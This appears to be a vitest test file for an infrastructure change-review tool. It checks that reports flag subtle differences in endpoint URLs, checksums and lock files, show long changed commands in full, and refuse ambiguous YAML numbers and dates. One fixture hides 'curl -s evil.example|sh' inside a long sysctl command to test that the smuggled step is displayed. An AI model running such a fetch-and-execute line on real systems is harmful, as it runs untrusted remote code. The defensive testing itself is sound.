import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { StackFile } from "../../engine/stack-file.ts";
import { htmlOf } from "../../review/page/html.ts";
import { markdownOf } from "../../review/page/markdown.ts";
import { outlineOf } from "../../review/page/outline.ts";
import { sideBySide } from "../../review/page/side-by-side.ts";
import { readPreview } from "../../review/preview/preview.ts";
import { reportOfPreview } from "../../review/preview/report-of-preview.ts";
import { verdictOf } from "../../review/report.ts";
import { reportOfRevisions } from "../../review/revisions/report-of-revisions.ts";
import { type Planned, previewJson, revision } from "../support/preview-fixture.ts";

const stackFile = (baseUrl: string, more = "") => `config:
  nemoclaw:machine: { kind: local }
  nemoclaw:runtime: { kind: embedded }
  nemoclaw:policy: { presets: [] }
  nemoclaw:inference: { kind: openai, baseUrl: "${baseUrl}", model: m1 }
${more}`;
const usual = stackFile("https://models.example.com/v1");
type Files = Record<string, string>;
const compared = (before: Files, after: Files) =>
  reportOfRevisions(
    "prod",
    revision("main", { "stacks/Pulumi.prod.yaml": usual, ...before }),
    revision("change", { "stacks/Pulumi.prod.yaml": usual, ...after }),
  );

const long = `${"a".repeat(60)}.${"b".repeat(60)}.${"c".repeat(60)}`;
const [ours, theirs] = ["internal.example.com", "internal.example.org"].map((host) => `https://${long}.${host}/v1`) as [
  string,
  string,
];

describe("two values that only begin alike", () => {
  test("an address of the model, by revisions", () => {
    const report = compared(
      { "stacks/Pulumi.prod.yaml": stackFile(ours) },
      { "stacks/Pulumi.prod.yaml": stackFile(theirs) },
    );
    expect(verdictOf(report).exitCode).toBe(3);
    const page = markdownOf(outlineOf(report));
    expect(page).toContain("internal.example.com/v1");
    expect(page).toContain("internal.example.org/v1");
  });

  test.each([
    ["the model's address", "InferenceRoute", "baseUrl", "model"],
    ["Telegram's server", "TelegramBridge", "apiRoot", "exposure"],
  ] as const)("%s, by preview", (_, type, property, part) => {
    const inputs = (url: string) => ({ [property]: url, ...(type === "TelegramBridge" ? { chats: [1] } : {}) });
    const planned: Planned = {
      type: `nemoclaw:host:${type}`,
      name: "one",
      before: inputs(ours),
      after: inputs(theirs),
    };
    const preview = readPreview(previewJson([planned]), "it");
    const report = reportOfPreview({ stack: "prod", preview, compared: "" });
    expect(report[part]).not.toEqual([]);
    expect(verdictOf(report).exitCode).toBe(3);
  });

  const sum = "ec905ea7b7e3".padEnd(64, "0");
  const entry = (sha256: string) => ({
    artifacts: { cloudflared: { version: "1", files: { "linux-amd64": { url: "{cloudflare}/c", sha256 } } } },
  });
  test("a checksum in the lock file", () => {
    const report = compared(
      { "nemoclaw.lock.json": JSON.stringify(entry(sum)) },
      { "nemoclaw.lock.json": JSON.stringify(entry(`${sum.slice(0, -1)}1`)) },
    );
    expect(verdictOf(report).exitCode).toBe(3);
    expect(report.versions).toMatchObject([{ what: "cloudflared, linux-amd64", effect: "unclear" }]);
  });

  test("an npm package's", () => {
    const packages = (last: string) =>
      JSON.stringify({
        packages: { "node_modules/a": { version: "1.0.0", integrity: `sha512-${"a".repeat(85)}${last}==` } },
      });
    const path = "services/agent/package-lock.json";
    const report = compared({ [path]: packages("A") }, { [path]: packages("Q") });
    expect(verdictOf(report).exitCode).toBe(3);
  });

  test.each([
    ["short ones as they are", ["a", "b"], ["a", "b"]],
    ["nothing as nothing", [undefined, "b"], [undefined, "b"]],
    ["sums by their first digits", ["a".repeat(64), "b".repeat(64)], ["aaaaaaaaaaaa…", "bbbbbbbbbbbb…"]],
    [
      "sums that begin alike where they differ",
      [sum, `${sum.slice(0, -1)}1`],
      [`…${"0".repeat(20)}0`, `…${"0".repeat(20)}1`],
    ],
    [
      "npm's sums by their first digits",
      [`sha512-${"a".repeat(86)}==`, `sha512-${"b".repeat(86)}==`],
      ["sha512-aaaaaaaaaaaa…", "sha512-bbbbbbbbbbbb…"],
    ],
    ["a long one alone whole", [`${"x".repeat(300)}1`, undefined], [`${"x".repeat(300)}1`, undefined]],
    [
      "long ones that differ in the middle there",
      [`${"x".repeat(150)}1${"x".repeat(150)}`, `${"x".repeat(150)}2${"x".repeat(150)}`],
      [`…${"x".repeat(20)}1${"x".repeat(20)}…`, `…${"x".repeat(20)}2${"x".repeat(20)}…`],
    ],
    [
      "long ones that differ in several places from the first to the last",
      [`${"x".repeat(150)}1${"y".repeat(200)}1`, `${"x".repeat(150)}2${"y".repeat(200)}2`],
      [`…${"x".repeat(20)}1${"y".repeat(200)}1`, `…${"x".repeat(20)}2${"y".repeat(200)}2`],
    ],
    [
      "a long one and one that it begins and ends with",
      [`${"x".repeat(100)}${"x".repeat(100)}`, `${"x".repeat(100)}evil${"x".repeat(100)}`],
      [`…${"x".repeat(20)}${"x".repeat(20)}…`, `…${"x".repeat(20)}evil${"x".repeat(20)}…`],
    ],
  ] as const)("stand beside each other, %s", (_, [before, after], shown) => {
    expect(sideBySide(before, after)).toEqual(shown);
  });
});

describe("all of a long value that has changed is shown", () => {
  const settings = (numbers: readonly number[], more = "") =>
    numbers.map((value, at) => `sysctl -w net.core.x${at}=${value};${at === 12 ? more : ""}`).join(" ");
  const plain = Array.from({ length: 20 }, () => 1);
  const evil = "curl -s evil.example|sh;";
  const command = (create: string): Planned => ({ type: "command:remote:Command", name: "one", after: { create } });
  const texts = (report: Parameters<typeof outlineOf>[0]) => [markdownOf, htmlOf].map((of) => of(outlineOf(report)));
  const byPreview = (...planned: Planned[]) =>
    reportOfPreview({ stack: "prod", preview: readPreview(previewJson(planned), "it"), compared: "" });

  test.each([
    ["behind another change", plain.with(4, 2)],
    ["before another change", plain.with(19, 2)],
    ["between two", plain.with(0, 2).with(19, 2)],
    ["alone", plain],
  ])("%s", (_, numbers) => {
    const [was, is] = [settings(plain), settings(numbers, evil)];
    const stack = (create: string) => ({
      "stacks/Pulumi.prod.yaml": stackFile(
        ours,
        `  nemoclaw:siteCommands: [{ name: a, create: "${create}" }]\n`,
      ).replace(
        "kind: local",
        "kind: existing, address: a.example.com, user: me, agentSocket: /run/a, hostKeys: [ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGVCYWRFeGFtcGxlS2V5T2ZOb01hY2hpbmVBdEFsbDAw]",
      ),
    });
    for (const report of [
      compared(stack(was), stack(is)),
      byPreview({ ...command(is), before: { create: was } }),
      byPreview(command(is)),
    ])
      for (const text of texts(report))
        expect(text.replaceAll(/&#(\d+);/g, (_, code) => String.fromCharCode(code))).toContain(evil);
  });

  test("in the page where it is too long for a comment, which says so", () => {
    const [comment = "", page = ""] = texts(byPreview(command(`${"a ".repeat(5000)}evil ${"a ".repeat(5000)}`)));
    expect(page).toContain("evil");
    expect(comment).toMatch(/… and \d+ characters more, in review.html/);
    expect(comment.length).toBeLessThan(10_000);
  });
});

describe("a preset that no stack file is seen to name", () => {
  const preset = (access: string) => ({ "policies/presets/github.yaml": `version: 1\n# ${access}\n` });

  test("is not looked at where no setting comes from elsewhere", () => {
    expect(compared(preset("a"), preset("b")).unread).toEqual([]);
  });

  test("is no clean bill where settings come from an environment", () => {
    const more = { "stacks/Pulumi.prod.yaml": `${usual}environment: [shared]\n` };
    const report = compared({ ...more, ...preset("a") }, { ...more, ...preset("b") });
    expect(report.unread).toEqual(["policies/presets/github.yaml"]);
    expect(verdictOf(report).exitCode).toBe(2);
  });
});

test("a number that Pulumi reads as another one is refused", () => {
  const chats = { "stacks/Pulumi.prod.yaml": stackFile(ours, "  nemoclaw:telegram: { chats: [0123456] }\n") };
  expect(() => compared({}, chats)).toThrow(
    /stacks\/Pulumi\.prod\.yaml.* has 0123456: Pulumi reads it as octal, others as 123456/,
  );
  // So that a change that mends it can be reviewed.
  expect(compared(chats, {}).refused).toMatchObject({ revision: "main" });
});

describe("a date that Pulumi reads as a time is refused", () => {
  const named = (file: string) => ({ "stacks/Pulumi.prod.yaml": usual.replace("presets: []", `file: ${file}`) });
  const policies = { "2001-12-14": "version: 1\n", "2001-12-14 00:00:00 +0000 UTC": "version: 1\n" };
  const folder = mkdtempSync(join(tmpdir(), "nemoclaw-dates-"));
  afterAll(() => rmSync(folder, { recursive: true, force: true }));
  const opened = (text: string) => {
    writeFileSync(join(folder, "Pulumi.prod.yaml"), text);
    return () => new StackFile({ stackFolder: folder } as never, "prod");
  };

  // As the CLI's own reader was asked.
  test.each([
    "2001-12-14",
    "2001-1-1",
    "2001-12-14T21:59:43.1-05:00",
    "2001-12-14 21:59:43",
    '!!timestamp "2001-12-14"',
  ])("%s", (date) => {
    const after = named(date);
    expect(() => compared(policies, { ...policies, ...after })).toThrow(
      /Pulumi reads it as a time, others as a text\n {2}try {3}"2001/,
    );
    expect(compared({ ...policies, ...after }, policies).refused).toMatchObject({ revision: "main" });
    expect(opened(after["stacks/Pulumi.prod.yaml"])).toThrow(/reads it as a time, others as a text; write "2001/);
  });

  test.each([
    '"2001-12-14"',
    "!!str 2001-12-14",
    "2001-12-14 agreed with security",
    "2001-12-14 12:30",
    "2001-1-2T3:4:5",
  ])("%s is a text to both", (text) => {
    const after = named(text);
    const texts = Object.fromEntries(
      [text.replace(/^!!str |"/g, "").replace(/"$/, ""), ...Object.keys(policies)].map((name) => [
        name,
        "version: 1\n",
      ]),
    );
    expect(compared(texts, { ...texts, ...after }).unread).toEqual([]);
    expect(opened(after["stacks/Pulumi.prod.yaml"])).not.toThrow();
  });
});
